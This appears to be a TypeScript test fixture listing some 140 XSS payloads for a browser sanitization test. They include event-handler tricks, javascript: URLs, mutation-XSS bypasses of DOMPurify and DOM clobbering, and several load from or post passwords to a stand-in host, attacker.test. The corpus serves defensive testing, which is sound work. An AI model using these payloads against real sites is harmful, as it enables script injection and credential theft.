/**
 * Known ways to run script, load from elsewhere, navigate or take over the page through markup,
 * sent as html messages by web.xss.browser.test.ts. Collected from the OWASP XSS filter evasion
 * cheat sheet, PortSwigger's XSS cheat sheet, the published DOMPurify bypasses (mXSS through
 * namespace confusion, 2019–2024), html5sec.org and the DOM clobbering literature.
 *
 * Every payload leaves a trace if it works: an alert, a global whose name starts with `xss`
 * (`window.xss…` or `document.xss…`, by script or by clobbering), a request to ATTACKER, or a
 * navigation. A payload that only shows text (a link the reader has to click to https:, a title)
 * is safe: the test checks what the page kept, not that it kept nothing.
 */

/** A host no request may go to. `.test` is reserved (RFC 2606): it never resolves. */
export const ATTACKER = 'https://attacker.test';

/** The globals a payload tries to set or clobber; each must still be undefined afterwards. */
export const PROBES = ['xss', 'xssId', 'xssName', 'xssForm', 'xssImg', 'xssEmbed', 'xssObject', 'xssFrame'];

const run = (tag: string) => `window.xss='${tag}'`;

/** [name, markup] */
export const XSS_CORPUS: [string, string][] = [
  // Event handlers, in every spelling the tokenizer accepts.
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['img onerror, quoted', `<img src="x" onerror="${run('img-quoted')}">`],
  ['img onerror, no space after a quote', `<img src="x"onerror="${run('img-noquote')}">`],
  ['img onerror, slashes', '<img/src=x/onerror=alert(2)>'],
  ['img onerror, newline before =', '<img src=x onerror\n=alert(3)>'],
  ['img onerror, mixed case', '<IMG SRC=x OnErRoR=alert(4)>'],
  ['img onerror, tab and form feed', '<img\tsrc=x\fonerror=alert(5)>'],
  ['img onerror, entity in the handler', '<img src=x onerror="&#97;lert(6)">'],
  ['img onerror eval(src)', '<img src=x:alert(alt) onerror=eval(src) alt=7>'],
  ['image (an alias of img)', '<image src=x onerror=alert(8)>'],
  ['svg onload', '<svg onload=alert(9)>'],
  ['svg/onload', '<svg/onload=alert(10)>'],
  ['body onload', '<body onload=alert(11)>'],
  ['body onpageshow', '<body onpageshow=alert(12)>'],
  ['details ontoggle', '<details open ontoggle=alert(13)><summary>s</summary></details>'],
  ['input autofocus onfocus', '<input autofocus onfocus=alert(14)>'],
  ['select autofocus onfocus', '<select autofocus onfocus=alert(15)></select>'],
  ['textarea autofocus onfocus', '<textarea autofocus onfocus=alert(16)></textarea>'],
  ['contenteditable onfocus', '<p contenteditable autofocus tabindex=1 onfocus=alert(17)>p</p>'],
  ['a onfocus with autofocus', '<a href="#" autofocus onfocus=alert(18)>a</a>'],
  ['marquee onstart', '<marquee onstart=alert(19)>m</marquee>'],
  ['video source onerror', '<video><source onerror=alert(20)></video>'],
  ['audio onerror', '<audio src=x onerror=alert(21)></audio>'],
  ['object onerror', '<object data=x onerror=alert(22)></object>'],
  ['style onload', '<style onload=alert(23)></style>'],
  ['frameset onload', '<frameset onload=alert(24)>'],
  [
    'div onmouseover covering the page',
    '<div onmouseover=alert(25) style="position:fixed;inset:0">cover</div>',
  ],
  [
    'onanimationstart',
    '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=alert(26)>p</p>',
  ],
  ['onbeforetoggle of a popover', '<div popover id=xssPop onbeforetoggle=alert(27)>p</div>'],
  ['svg animate onbegin', '<svg><animate onbegin=alert(28) attributeName=x dur=1s>'],
  ['svg set of an event attribute', '<svg><set attributeName=onload to=alert(29)></set></svg>'],
  [
    'math with an event attribute',
    '<math><mi xlink:href="javascript:alert(30)" onclick=alert(30)>m</mi></math>',
  ],

  // Script elements.
  ['script', '<script>alert(31)</script>'],
  [
    'script from this server (allowed by script-src self)',
    '<script type="module" src="/web/space.js"></script>',
  ],
  ['script from elsewhere', `<script src="${ATTACKER}/script.js"></script>`],
  ['split script tag', '<scr<script>ipt>alert(32)</scr</script>ipt>'],
  ['script in an attribute that closes the tag', '<img """><script>alert(33)</script>">'],
  ['module import', `<script type=module>import('${ATTACKER}/module.js')</script>`],
  ['svg script', '<svg><script>alert(34)</script></svg>'],
  ['svg script with xlink', `<svg><script xlink:href="${ATTACKER}/svg.js"></script></svg>`],

  // javascript:, data: and vbscript: URLs.
  ['a javascript:', '<a href="javascript:alert(35)">link</a>'],
  ['a JaVaScRiPt:', '<a href="JaVaScRiPt:alert(36)">link</a>'],
  [
    'a javascript: as entities',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(37)">link</a>',
  ],
  ['a javascript: with a tab', '<a href="java&#x09;script:alert(38)">link</a>'],
  ['a javascript: after spaces', '<a href="  javascript:alert(39)">link</a>'],
  ['a javascript&colon;', '<a href="javascript&colon;alert(40)">link</a>'],
  ['a data:text/html', '<a href="data:text/html,<script>alert(41)</script>">link</a>'],
  ['a vbscript:', '<a href="vbscript:msgbox(42)">link</a>'],
  [
    'area javascript:',
    '<map name=m><area shape=rect coords=0,0,9,9 href="javascript:alert(43)"></map><img usemap=#m src=x>',
  ],
  ['iframe javascript:', '<iframe src="javascript:alert(44)"></iframe>'],
  ['form action javascript:', '<form action="javascript:alert(45)"><button>send</button></form>'],
  ['button formaction', '<button formaction="javascript:alert(46)">b</button>'],
  ['svg a xlink:href', '<svg><a xlink:href="javascript:alert(47)"><text y=20>x</text></a></svg>'],
  ['math a xlink:href', '<math><a xlink:href="javascript:alert(48)">x</a></math>'],
  ['embed javascript:', '<embed src="javascript:alert(49)">'],
  ['object data javascript:', '<object data="javascript:alert(50)"></object>'],
  ['base href javascript:', '<base href="javascript:alert(51)//">'],
  [
    'svg use data:',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=alert(52) /></svg>#x"></use></svg>',
  ],

  // Frames, documents inside documents.
  ['iframe srcdoc', `<iframe srcdoc="<script>parent.${run('srcdoc')}</script>"></iframe>`],
  ['iframe srcdoc, escaped markup', '<iframe srcdoc="&lt;img src=x onerror=alert(53)&gt;"></iframe>'],
  ['iframe from elsewhere', `<iframe src="${ATTACKER}/frame"></iframe>`],
  ['object from elsewhere', `<object data="${ATTACKER}/object"></object>`],
  ['embed from elsewhere', `<embed src="${ATTACKER}/embed">`],
  ['frame', `<frameset><frame src="${ATTACKER}/frame2"></frameset>`],
  ['portal', `<portal src="${ATTACKER}/portal"></portal>`],

  // Meta, base and link: navigation, policy, loads.
  ['meta refresh elsewhere', `<meta http-equiv="refresh" content="0;url=${ATTACKER}/refresh">`],
  ['meta refresh javascript:', '<meta http-equiv="refresh" content="0;url=javascript:alert(54)">'],
  [
    'meta CSP that allows everything',
    '<meta http-equiv="Content-Security-Policy" content="script-src * \'unsafe-inline\'">',
  ],
  ['base href elsewhere', `<base href="${ATTACKER}/">`],
  ['link stylesheet', `<link rel="stylesheet" href="${ATTACKER}/link.css">`],
  ['link prefetch', `<link rel="prefetch" href="${ATTACKER}/prefetch">`],
  ['link preload script', `<link rel="preload" as="script" href="${ATTACKER}/preload.js">`],
  ['link modulepreload', `<link rel="modulepreload" href="${ATTACKER}/modulepreload.js">`],
  ['link dns-prefetch', `<link rel="dns-prefetch" href="${ATTACKER}">`],

  // Forms: posting what the reader types elsewhere, taking over the page's own form.
  [
    'form posting elsewhere',
    `<form action="${ATTACKER}/steal" method=post><input name=password type=password><button>Log in</button></form>`,
  ],
  ['input formaction', `<input type=submit formaction="${ATTACKER}/formaction" value=go>`],
  ["input of the page's send form", `<input form="send-form" name="type" value="html">`],
  ['input type=image', `<input type=image src="${ATTACKER}/input.png">`],
  ['isindex', `<isindex action="${ATTACKER}/isindex" type=image src="${ATTACKER}/isindex.png">`],

  // Styles: loads, overlays, old expression().
  ['style element loading a background', `<style>body{background:url(${ATTACKER}/style.png)}</style>`],
  ['style @import', `<style>@import '${ATTACKER}/import.css';</style>`],
  ['style attribute loading a background', `<div style="background:url(${ATTACKER}/attribute.png)">d</div>`],
  ['style attribute expression()', '<div style="width:expression(alert(55))">d</div>'],
  ['style behavior', '<div style="behavior:url(x.htc)">d</div>'],
  ['svg style', `<svg><style>*{background:url(${ATTACKER}/svg-style.png)}</style></svg>`],
  [
    'background attribute',
    `<table background="${ATTACKER}/table.png"><tr><td background="${ATTACKER}/td.png">t</td></tr></table>`,
  ],
  ['body background', `<body background="${ATTACKER}/body.png">`],
  ['video poster', `<video poster="${ATTACKER}/poster.png"></video>`],
  ['img srcset', `<img srcset="${ATTACKER}/srcset.png 1x">`],
  ['picture source', `<picture><source srcset="${ATTACKER}/picture.png"><img alt=p></picture>`],
  ['svg image', `<svg><image href="${ATTACKER}/svg-image.png"></image></svg>`],
  ['svg feImage', `<svg><filter id=f><feImage href="${ATTACKER}/feimage.png"/></filter></svg>`],
  ['a ping', `<a href="https://example.com/" ping="${ATTACKER}/ping">a</a>`],
  ['a class of the page', '<a class="button primary skip-link">looks like the page</a>'],

  // Namespace confusion and mutation XSS (published DOMPurify bypasses and their cousins).
  ['svg p style', '<svg></p><style><a id="</style><img src=1 onerror=alert(56)>">'],
  ['math mtext table mglyph style', '<math><mtext><table><mglyph><style><img src=x onerror=alert(57)>'],
  [
    'form math mtext form mglyph style',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(58)>',
  ],
  [
    'math mi table mi mglyph svg mtext textarea',
    '<math><mi><table><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(59) src=1>">',
  ],
  ['svg foreignObject', '<svg><foreignObject><img src=x onerror=alert(60)></foreignObject></svg>'],
  [
    'math annotation-xml text/html',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(61)></annotation-xml></math>',
  ],
  ['svg style in foreign content', '<svg><style><img src=x onerror=alert(62)></style></svg>'],
  ['svg CDATA', '<svg><![CDATA[><img src=x onerror=alert(63)>]]></svg>'],
  ['noscript title', '<noscript><p title="</noscript><img src=x onerror=alert(64)>">'],
  ['noembed title', '<noembed><img title="</noembed><img src=x onerror=alert(65)>">'],
  ['noframes title', '<noframes><img title="</noframes><img src=x onerror=alert(66)>">'],
  ['iframe title', '<iframe><img title="</iframe><img src=x onerror=alert(67)>"></iframe>'],
  ['xmp title', '<xmp><img title="</xmp><img src=x onerror=alert(68)>">'],
  ['textarea title', '<textarea><img title="</textarea><img src=x onerror=alert(69)>">'],
  ['title title', '<title><img title="</title><img src=x onerror=alert(70)>">'],
  ['style title', '<style><img title="</style><img src=x onerror=alert(71)>">'],
  ['template', '<template><img src=x onerror=alert(72)></template>'],
  ['select template', '<select><template><img src=x onerror=alert(73)></template></select>'],
  ['comment', '<!--><img src=x onerror=alert(74)>-->'],
  ['comment --!>', '<!-- --!><img src=x onerror=alert(75)> -->'],
  ['processing instruction', '<?x><img src=x onerror=alert(76)>?>'],
  ['a title that holds markup', '<a title="<img src=x onerror=alert(77)>">t</a>'],
  ['nested forms', '<form><form><img src=x onerror=alert(78)></form></form>'],
  ['table foster parenting', '<table><img src=x onerror=alert(79)><tr><td>t</td></tr></table>'],
  ['svg desc', '<svg><desc><img src=x onerror=alert(80)></desc></svg>'],
  ['math mglyph', '<math><mglyph><img src=x onerror=alert(81)></mglyph></math>'],
  [
    'template shadowrootmode',
    '<div><template shadowrootmode="open"><img src=x onerror=alert(82)></template></div>',
  ],
  [
    'selectedcontent',
    '<select><button><selectedcontent></selectedcontent></button><option><img src=x onerror=alert(83)></option></select>',
  ],

  // DOM clobbering: names that would become globals, ids the page looks up.
  ['a id', '<a id="xssId" href="https://example.com/">a</a>'],
  ['img name', '<img name="xssName" src="data:image/png;base64,iVBORw0KGgo=">'],
  ['form name', '<form name="xssForm"></form>'],
  ['img name on document', '<img name="xssImg">'],
  ['embed name', '<embed name="xssEmbed">'],
  ['object name', '<object name="xssObject"></object>'],
  ['iframe name', '<iframe name="xssFrame"></iframe>'],
  ['document.cookie clobbered', '<img name="cookie"><img name="getElementById">'],
  [
    'ids of the page',
    '<p id="participants">p</p><ol id="artifacts"></ol><div id="send-notice"></div><span id="space-state">open</span>',
  ],
  ['form id of the page', '<form id="send-form"><textarea id="message-content"></textarea></form>'],
  ['nested clobbering', '<a id="xss"></a><a id="xss" name="xss" href="javascript:alert(84)"></a>'],
  ['id on a deeper element', '<b><i><u id="xss">u</u></i></b>'],
  ['name of a form control', '<fieldset name="xss"><output name="xss">o</output></fieldset>'],

  // Odd encodings around the angle brackets.
  // (A raw U+0000 is refused by the API, 400, so it cannot reach a page.)
  ['NUL as an entity inside javascript:', '<a href="java&#0;script:alert(85)">a</a>'],
  ['U+FFFD inside a handler name', '<img src=x o\ufffdnerror=alert(86)>'],
  ['full-width angle brackets', '\uff1cimg src=x onerror=alert(87)\uff1e'],
  ['unclosed tag at the end', '<img src=x onerror=alert(88) '],
  ['attribute without a value then handler', '<img src x onerror=alert(89)>'],
  ['double-encoded entities', '&lt;img src=x onerror=alert(90)&gt;'],
];
